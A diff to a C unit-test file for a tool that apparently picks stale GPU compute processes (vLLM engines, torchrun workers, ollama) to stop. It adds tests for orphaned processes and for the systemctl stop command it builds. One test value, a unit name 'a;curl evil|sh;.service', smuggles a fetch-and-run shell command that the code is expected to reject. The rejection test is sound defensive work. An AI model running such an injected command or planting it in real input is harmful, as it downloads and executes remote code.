@@ -378,6 +378,21 @@ static void test_stale_job(void **state)
     plim_choice_free(choice);
 }
 
+/* The parent of a desktop's orphan is the user's own systemd, which is kept: that does not keep the orphan. */
+static void test_orphan_of_a_desktop(void **state)
+{
+    static struct world w;
+    (void)state;
+    make_world(&w);
+    add_kin(&w, 300, 1, "/lib/systemd/systemd --user");
+    add_process(&w, 601, 300, "VLLM::EngineCore", PLIM_STALE_YES);
+    struct plim_choice *choice = choose(&w);
+    assert_int_equal(choice->n_chosen, 2);
+    assert_int_equal(choice->candidate[1].kin.pid, 601);
+    assert_int_equal(choice->candidate[1].works_for, 0);
+    plim_choice_free(choice);
+}
+
 /* One rank that is not stale, one that is protected, or one that is computing keeps the whole job. */
 static void test_job_that_is_kept(void **state)
 {
@@ -459,6 +474,10 @@ static void test_workers(void **state)
         { "python train.py", "vim torchrun", false },
         { "python train.py", "python run_all.py torchrun", false },
         { "python train.py", "python -c import torchrun", false },
+        { "VLLM::EngineCore", "/lib/systemd/systemd --user", false }, /* an orphan */
+        { "VLLM::EngineCore", "/sbin/docker-init -- sh", false },
+        { "python -c from multiprocessing.spawn import spawn_main; spawn_main(5) --multiprocessing-fork", "/sbin/init",
+          false },
         { "python -m ipykernel_launcher -f kernel-1.json", "python jupyter-lab", false },
         { "ollama runner --model x", "ollama serve", false },
         { "", "", false },
@@ -502,6 +521,17 @@ static void test_gentle(void **state)
         if (!strstr(c->gentle, rows[i].gentle) || (c->gentle[0] != 0) != (rows[i].gentle[0] != 0) ||
             strcmp(c->gentle_command, rows[i].way) != 0)
             fail_msg("%s: %s: %s", rows[i].command, c->gentle, c->gentle_command);
+        plim_choice_free(choice);
+    }
+    static const char *const units[][2] = { { "ollama@2.service", "systemctl stop ollama@2.service" },
+                                            { "a;curl evil|sh;.service", "" },
+                                            { "--now.service", "" },
+                                            { "user@1000.service", "" } };
+    for (size_t i = 0; i < COUNT(units); i++) {
+        make_world(&w);
+        w.process[0].unit = units[i][0];
+        struct plim_choice *choice = choose(&w);
+        assert_string_equal(choice->candidate[0].gentle_command, units[i][1]);
         plim_choice_free(choice);
     }
     make_world(&w);
@@ -580,13 +610,21 @@ static void test_device_users(void **state)
 int main(void)
 {
     const struct CMUnitTest tests[] = {
-        cmocka_unit_test(test_rules),         cmocka_unit_test(test_protection_of_named),
-        cmocka_unit_test(test_nothing_stale), cmocka_unit_test(test_every_rule_has_a_name),
-        cmocka_unit_test(test_two_cards),     cmocka_unit_test(test_names_of_no_use),
-        cmocka_unit_test(test_stale_job),     cmocka_unit_test(test_job_that_is_kept),
-        cmocka_unit_test(test_named_rank),    cmocka_unit_test(test_named_launcher),
-        cmocka_unit_test(test_workers),       cmocka_unit_test(test_gentle),
-        cmocka_unit_test(test_device_files),  cmocka_unit_test(test_device_users),
+        cmocka_unit_test(test_rules),
+        cmocka_unit_test(test_protection_of_named),
+        cmocka_unit_test(test_nothing_stale),
+        cmocka_unit_test(test_every_rule_has_a_name),
+        cmocka_unit_test(test_two_cards),
+        cmocka_unit_test(test_names_of_no_use),
+        cmocka_unit_test(test_stale_job),
+        cmocka_unit_test(test_job_that_is_kept),
+        cmocka_unit_test(test_orphan_of_a_desktop),
+        cmocka_unit_test(test_named_rank),
+        cmocka_unit_test(test_named_launcher),
+        cmocka_unit_test(test_workers),
+        cmocka_unit_test(test_gentle),
+        cmocka_unit_test(test_device_files),
+        cmocka_unit_test(test_device_users),
     };
     return cmocka_run_group_tests(tests, NULL, NULL);
 }
